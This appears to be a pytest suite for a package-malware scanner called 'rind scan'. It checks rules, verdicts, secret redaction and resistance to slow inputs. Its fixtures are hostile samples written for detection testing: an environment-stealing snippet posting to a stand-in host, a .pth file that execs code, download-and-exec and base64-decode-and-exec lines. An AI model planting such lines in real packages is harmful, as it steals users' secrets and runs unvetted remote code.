"""`rind scan`: what it finds in packages that are made here, how it says so, and what becomes of files that are none."""
import io
import json
import subprocess
import tarfile
import tempfile
import time
import zipfile
from pathlib import Path

import pytest

from support import packages
from support.index import BINARY, clean_environment


def scan(*arguments, cwd=None):
    return subprocess.run([BINARY, "scan", *map(str, arguments)], capture_output=True, text=True, cwd=cwd,
                          env=clean_environment(Path(tempfile.gettempdir())), timeout=120)


def found(*arguments, cwd=None):
    """Exit status, findings, verdict."""
    answer = scan("--json", *arguments, cwd=cwd)
    lines = [json.loads(line) for line in answer.stdout.splitlines()]
    assert lines, answer
    assert set(lines[-1]) == {"verdict", "version"}, lines[-1]
    return answer.returncode, lines[:-1], lines[-1]["verdict"]


def with_member(path, name, text):
    """Adds a file to a wheel (RECORD is not looked at here) or makes an sdist of it."""
    if str(path).endswith(".whl"):
        with zipfile.ZipFile(path, "a", zipfile.ZIP_DEFLATED) as archive:
            archive.writestr(name, text)
    else:
        with tarfile.open(path, "w:gz") as archive:
            info = tarfile.TarInfo(name)
            info.size = len(text)
            archive.addfile(info, io.BytesIO(text.encode()))
    return path


STEALER = """import os, requests
requests.post("https://host.test/in", json=dict(os.environ))
"""


def test_a_package_with_nothing_in_it_is_published(tmp_path):
    status, findings, verdict = found(packages.wheel(tmp_path, "demo", "1.0"))
    assert (status, findings, verdict) == (0, [], "publish")


def test_a_start_file_with_code_holds_a_wheel_and_says_where(tmp_path):
    wheel = with_member(packages.wheel(tmp_path, "demo", "1.0"), "demo.pth", "x\nimport os; exec(os.environ['A'])\n")
    status, findings, verdict = found(wheel)
    assert (status, verdict) == (1, "hold")
    finding, = [f for f in findings if f["rule"] == "pth-with-code"]
    assert (finding["path"], finding["line"], finding["severity"]) == ("demo.pth", 2, "high")
    assert set(finding) >= {"file", "rule", "severity", "path", "line", "evidence", "why"}
    assert finding["file"] == str(wheel) and "exec" in finding["evidence"] and finding["why"].endswith(".")


def test_an_sdist_a_file_and_a_folder_are_looked_into_alike(tmp_path):
    sdist = with_member(tmp_path / "demo-1.0.tar.gz", "demo-1.0/demo/start.py", STEALER)
    folder = tmp_path / "sources" / "demo"
    folder.mkdir(parents=True)
    (folder / "start.py").write_text(STEALER)
    for target, path in ((sdist, "demo-1.0/demo/start.py"), (folder / "start.py", "start.py"),
                         (tmp_path / "sources", "demo/start.py")):
        _, findings, verdict = found(target)
        assert ("secrets-sent", path, 2) in [(f["rule"], f["path"], f["line"]) for f in findings], findings
        assert verdict in ("queue", "hold")


def test_against_the_former_release_only_what_is_new_is_told(tmp_path):
    old = with_member(tmp_path / "demo-1.0.tar.gz", "demo-1.0/demo/start.py", STEALER)
    new = with_member(tmp_path / "demo-1.1.tar.gz", "demo-1.1/demo/start.py", "\n" + STEALER + "exec(requests.get('x').text)\n")
    _, findings, verdict = found(new, "--against", old)
    rules = {f["rule"] for f in findings}
    assert "downloaded-and-run" in rules and "secrets-sent" not in rules
    assert verdict in ("queue", "hold")


def test_a_secret_is_told_and_not_shown(tmp_path):
    secret = "gh" + "p_Zq8LmW3xTn5VbR7yKc2DsJ4fHg6PeA9uBvXk"
    (tmp_path / "settings.py").write_text(f'TOKEN = "{secret}"\n')
    answer = scan("--json", tmp_path / "settings.py")
    finding = json.loads(answer.stdout.splitlines()[0])
    assert finding["confidential"] is True and "ghp_" in finding["evidence"]
    assert secret[:8] not in answer.stdout


def test_words_for_people_name_file_line_rule_and_verdict(tmp_path):
    (tmp_path / "a.py").write_text("import base64\nexec(base64.b64decode(X))\n")
    answer = scan(tmp_path / "a.py")
    assert answer.returncode == 1
    assert "a.py:2: high: decoded-and-executed:" in answer.stdout
    assert answer.stdout.splitlines()[-1] == "verdict: hold"


@pytest.mark.parametrize("name, body", [("demo-1.0-py3-none-any.whl", b"no archive"), ("demo-1.0.tar.gz", b""),
                                        ("demo-1.0.tar.gz", b"\x1f\x8b\x08" + b"x" * 50),
                                        ("demo-1.0-py3-none-any.whl", b"PK\x03\x04" + b"x" * 50)])
def test_a_broken_archive_is_refused_in_words(tmp_path, name, body):
    (tmp_path / name).write_bytes(body)
    answer = scan("--json", tmp_path / name)
    assert answer.returncode == 1
    assert json.loads(answer.stdout.splitlines()[-1])["verdict"] == "refuse"
    assert name in answer.stderr and "Traceback" not in answer.stderr


def test_a_file_that_is_not_there_is_wrong_usage(tmp_path):
    answer = scan(tmp_path / "nothing.whl")
    assert answer.returncode == 2 and "nothing.whl" in answer.stderr


def test_own_rules_are_added_and_bad_ones_refused_with_file_and_line(tmp_path):
    rules = tmp_path / "rules"
    rules.mkdir()
    rule = ("rule: own-name\nseverity: high\nwhy: Our code never says this name aloud.\nmatch: line /voldemort/\n"
            "bad:\n  voldemort  # found\ngood:\n  tom\n")
    (rules / "own-name.rule").write_text(rule)
    (tmp_path / "a.py").write_text("x = 'voldemort'\n")
    status, findings, _ = found(tmp_path / "a.py", "--rules", rules)
    assert status == 1 and [f["rule"] for f in findings] == ["own-name"]
    (rules / "own-name.rule").write_text(rule.replace("/voldemort/", "/(voldemort/"))
    answer = scan(tmp_path / "a.py", "--rules", rules)
    assert answer.returncode == 1 and "own-name.rule, line 4: expected" in answer.stderr
    (rules / "own-name.rule").write_text(rule.replace("  tom", "  voldemort"))
    answer = scan(tmp_path / "a.py", "--rules", rules)
    assert answer.returncode == 1 and "own-name.rule, line 7: expected" in answer.stderr


def test_what_is_made_to_be_slow_comes_to_an_end(tmp_path):
    (tmp_path / "line.py").write_text("x = [" + "1, " * 3_000_000 + "]\n")
    (tmp_path / "deep.py").write_text("x = " + "(" * 100_000 + ")" * 100_000 + "\n")
    (tmp_path / "blanks.py").write_text("exec(" + " " * 2_000_000 + ")\n")
    body = b"exec(base64.b64decode(x))\n" * 200_000
    inner = io.BytesIO()
    with zipfile.ZipFile(inner, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("a.py", body)
    for _ in range(5):
        outer = io.BytesIO()
        with zipfile.ZipFile(outer, "w") as archive:
            archive.writestr("inner.zip", inner.getvalue())
        inner = outer
    (tmp_path / "nested-1.0.zip").write_bytes(inner.getvalue())
    started = time.monotonic()
    status, _, verdict = found(tmp_path)
    assert status in (0, 1) and verdict in ("queue", "hold")
    assert time.monotonic() - started < 60
